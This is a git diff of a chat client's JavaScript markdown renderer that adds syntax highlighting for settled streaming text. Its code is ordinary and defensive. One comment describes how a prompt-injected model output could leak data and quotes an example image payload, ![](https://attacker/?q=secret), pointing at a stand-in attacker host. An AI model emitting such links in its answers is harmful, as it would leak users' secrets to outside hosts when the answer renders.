@@ -2,12 +2,22 @@
 import createDOMPurify from "dompurify";
 import MarkdownIt from "markdown-it";
 
+import { highlightCode } from "./highlight.js";
 import { stats } from "./stats.js";
 
 const SAFE_LINK = /^(https?:|mailto:|#|\/(?!\/)|\.{0,2}\/)/i;
 
+// Code blocks are highlighted only in renders of settled text (`highlight` true): the open tail
+// of a streaming answer is re-rendered every frame and stays plain until it settles.
 export function createMarkdown(window = globalThis.window) {
-  const md = new MarkdownIt({ html: false, linkify: false, typographer: false, breaks: false });
+  let highlighting = false;
+  const md = new MarkdownIt({
+    html: false,
+    linkify: false,
+    typographer: false,
+    breaks: false,
+    highlight: (code, lang) => (highlighting ? highlightCode(code, lang) : ""),
+  });
   // Images become links: a model's text must not make the browser fetch a URL by itself (a
   // prompt-injected ![](https://attacker/?q=secret) would leak data on render). The user can
   // still open the image by clicking.
@@ -33,8 +43,13 @@ export function createMarkdown(window = globalThis.window) {
     ADD_ATTR: ["target"],
   };
   return {
-    render(text) {
-      return purify.sanitize(md.render(text ?? ""), options);
+    render(text, highlight = false) {
+      highlighting = highlight;
+      try {
+        return purify.sanitize(md.render(text ?? ""), options);
+      } finally {
+        highlighting = false;
+      }
     },
     // One parse of `text`, rendered in two parts: the top-level blocks that end before offset
     // `cut` (settled), and the rest. Returns [settledHtml, restHtml, restStart]; restStart is
@@ -54,8 +69,15 @@ export function createMarkdown(window = globalThis.window) {
         }
       }
       const restStart = restLine === null || restLine >= cutLine ? cut : lineOffset(text, restLine);
-      const html = (part) => purify.sanitize(md.renderer.render(part, md.options, {}), options);
-      return [html(tokens.slice(0, split)), html(tokens.slice(split)), restStart];
+      const html = (part, highlight) => {
+        highlighting = highlight;
+        try {
+          return purify.sanitize(md.renderer.render(part, md.options, {}), options);
+        } finally {
+          highlighting = false;
+        }
+      };
+      return [html(tokens.slice(0, split), true), html(tokens.slice(split), false), restStart];
     },
   };
 }
@@ -73,12 +95,12 @@ function lineOffset(text, line) {
 }
 
 let shared = null;
-export function renderMarkdown(text) {
+export function renderMarkdown(text, highlight = false) {
   shared ??= createMarkdown();
   stats.markdownRenders += 1;
   stats.markdownChars += text?.length ?? 0;
   const started = performance.now();
-  const html = shared.render(text);
+  const html = shared.render(text, highlight);
   stats.markdownMs += performance.now() - started;
   return html;
 }
@@ -96,12 +118,13 @@ export function renderMarkdownSplit(text, cut) {
 
 // Where the settled part of a streaming text ends: after its last blank line that is not
 // inside a fenced code block. Only the part after it changes as deltas arrive, so only that
-// tail needs re-rendering per frame.
-export function stableSplit(text) {
-  let split = 0;
+// tail needs re-rendering per frame. `from`: an earlier result for a prefix of `text`, to scan
+// only what came after it (such a point is after a blank line and outside any fence).
+export function stableSplit(text, from = 0) {
+  let split = from;
   let fence = null;
-  let pos = 0;
-  let prevBlank = false;
+  let pos = from;
+  let prevBlank = from > 0;
   while (pos < text.length) {
     const nl = text.indexOf("\n", pos);
     if (nl < 0) break; // the last line is still being written
